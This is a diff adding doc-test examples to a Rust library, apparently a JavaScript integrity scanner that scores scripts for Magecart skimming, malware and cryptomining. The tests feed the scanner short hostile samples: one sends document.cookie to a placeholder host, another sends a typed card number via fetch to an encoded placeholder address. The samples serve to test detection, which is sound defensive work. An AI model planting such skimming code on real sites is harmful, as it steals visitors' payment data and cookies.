@@ -5,7 +5,20 @@ use std::fmt;
 
 use crate::{Class, ClassSet, Score, ScriptDigests};
 
-/// The scores of a script, 1..=99 each.
+/// The scores of a script, 1 (definitely malicious) to 99 (definitely not) each.
+///
+/// ```
+/// use jsintegrity::{Class, Score, Scores};
+///
+/// let [low, high] = [Score::new(4)?, Score::new(97)?];
+/// let scores = Scores::new(low, [low, high, high]);
+/// assert_eq!((scores.js_integrity_score, scores.magecart_score), (low, low));
+/// assert_eq!(scores.most_likely_class(), Class::Magecart);
+/// assert_eq!(scores.class_at(Score::DEFAULT_THRESHOLD), Class::Magecart);
+/// // A stricter threshold calls the same script benign.
+/// assert_eq!(scores.class_at(low), Class::Benign);
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
 #[non_exhaustive]
 pub struct Scores {
@@ -49,6 +62,19 @@ impl Scores {
 }
 
 /// How much of a script the parser understood.
+///
+/// ```
+/// # #[cfg(feature = "bundled-model")] {
+/// use jsintegrity::{ParseStatus, Scorer};
+///
+/// let scorer = Scorer::bundled()?;
+/// assert_eq!(scorer.score(b"let a = 1;")?.parse, ParseStatus::Full);
+/// let broken = scorer.score(b"}} let a = (")?;
+/// assert_ne!(broken.parse, ParseStatus::Full);
+/// assert_eq!(ParseStatus::Lexical.name(), "lexical");
+/// # }
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[allow(clippy::exhaustive_enums, reason = "the three values are the contract of the command")]
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
 #[serde(rename_all = "lowercase")]
@@ -80,13 +106,26 @@ impl fmt::Display for ParseStatus {
 }
 
 /// A limit whose reaching left a part of a script unread.
+///
+/// ```
+/// # #[cfg(feature = "bundled-model")] {
+/// use jsintegrity::{Limit, Scorer};
+///
+/// // A kilobyte that would become a megabyte.
+/// let long = "a".repeat(1 << 10);
+/// let report = Scorer::bundled()?.score(format!("x='{long}'.replace(/a/g,'{long}')").as_bytes())?;
+/// assert_eq!(report.limits, [Limit::Decoding]);
+/// assert_eq!(report.limits[0].name(), "decoding");
+/// # }
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
 #[serde(rename_all = "lowercase")]
 #[non_exhaustive]
 pub enum Limit {
     /// The script is longer than 1 GiB; what follows was not looked at.
     Bytes,
-    /// Decoding its strings would have added more than three times the script; some stayed encoded.
+    /// Decoding its strings would have added more than three times the script's bytes and 64 KiB; some stayed encoded.
     Decoding,
 }
 
@@ -105,12 +144,24 @@ impl Limit {
 ///
 /// The text is the decoded script in UTF-8 without its byte order mark: for UTF-8 input without a mark the
 /// offsets are those of the input bytes.
+///
+/// ```
+/// # #[cfg(feature = "bundled-model")] {
+/// use jsintegrity::{Scorer, Span};
+///
+/// let script = "let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;";
+/// let report = Scorer::bundled()?.score(script.as_bytes())?;
+/// let Span { start, end, .. } = report.findings[0].span;
+/// assert!(script[start..end].contains("document.cookie"));
+/// # }
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
 #[non_exhaustive]
 pub struct Span {
-    /// The first byte.
+    /// Offset of the first byte, from 0.
     pub start: usize,
-    /// One past the last byte.
+    /// Offset of the byte after the last.
     pub end: usize,
 }
 
@@ -121,6 +172,12 @@ impl Span {
 }
 
 /// How much a finding weighs for a person who reads it.
+///
+/// ```
+/// use jsintegrity::Severity;
+///
+/// assert!(Severity::Low < Severity::Medium && Severity::Medium < Severity::High);
+/// ```
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
 #[serde(rename_all = "lowercase")]
 #[non_exhaustive]
@@ -134,10 +191,25 @@ pub enum Severity {
 }
 
 /// A piece of evidence in a script.
+///
+/// ```
+/// # #[cfg(feature = "bundled-model")] {
+/// use jsintegrity::{Class, Finding, Scorer, Severity};
+///
+/// let report = Scorer::bundled()?.score(b"let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;")?;
+/// let found: &Finding = report.findings.iter().find(|found| found.signal == "cookies-sent").expect("a finding");
+/// assert_eq!((found.line, found.severity), (2, Severity::Medium));
+/// assert!(found.classes.contains(Class::Malware));
+/// // To show to a person, both.
+/// assert!(found.snippet.contains("document.cookie"));
+/// assert_eq!(found.description, "Cookies are put into an address that is loaded.");
+/// # }
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[derive(Clone, Debug, PartialEq, serde::Serialize)]
 #[non_exhaustive]
 pub struct Finding {
-    /// The signal's stable id, such as `form-data-sent`.
+    /// The signal's stable id, such as `cookies-sent`.
     pub signal: &'static str,
     /// What the signal means, in words for a site owner.
     pub description: &'static str,
@@ -158,6 +230,41 @@ pub struct Finding {
 /// The answer for one script.
 ///
 /// Same bytes and same [`model`](Self::model) give the same report.
+///
+/// ```
+/// # #[cfg(feature = "bundled-model")] {
+/// use jsintegrity::{Class, ParseStatus, Score, ScriptReport, Scorer, Severity};
+///
+/// // What is typed into the card field goes to another host; the address is encoded.
+/// let script = "
+/// document.querySelector('#pay').addEventListener('submit', function () {
+///   var card = document.querySelector('input[name=cc_number]').value;
+///   fetch(atob('aHR0cHM6Ly9jLmV4YW1wbGUvZw=='), { method: 'POST', body: card });
+/// });";
+/// let scorer = Scorer::bundled()?;
+/// let report: ScriptReport = scorer.score(script.as_bytes())?;
+///
+/// // The scores, lowest for what it is.
+/// assert_eq!(report.scores.class_at(Score::DEFAULT_THRESHOLD), Class::Magecart);
+/// assert!(report.scores.magecart_score < report.scores.cryptomining_score);
+///
+/// // The evidence, most severe first, with its place in the code.
+/// let found = &report.findings[0];
+/// assert_eq!((found.signal, found.severity), ("card-data-sent-abroad", Severity::High));
+/// assert!(found.line > 1 && script[found.span.start..found.span.end].contains("fetch"));
+/// assert!(report.findings.is_sorted_by_key(|found| std::cmp::Reverse(found.severity)));
+///
+/// // Where it may connect to, for look-ups in feeds.
+/// assert_eq!(report.urls, ["https://c.example/g"]);
+/// assert!(report.hosts().iter().eq(["c.example"]));
+///
+/// // How far all this can be relied on, and what it was made from.
+/// assert_eq!((report.parse, report.limits.len()), (ParseStatus::Full, 0));
+/// assert_eq!(report.model, scorer.model_id());
+/// assert!(report.digests.sri.starts_with("sha256-"));
+/// # }
+/// # Ok::<(), jsintegrity::Error>(())
+/// ```
 #[derive(Clone, Debug, PartialEq, serde::Serialize)]
 #[non_exhaustive]
 pub struct ScriptReport {
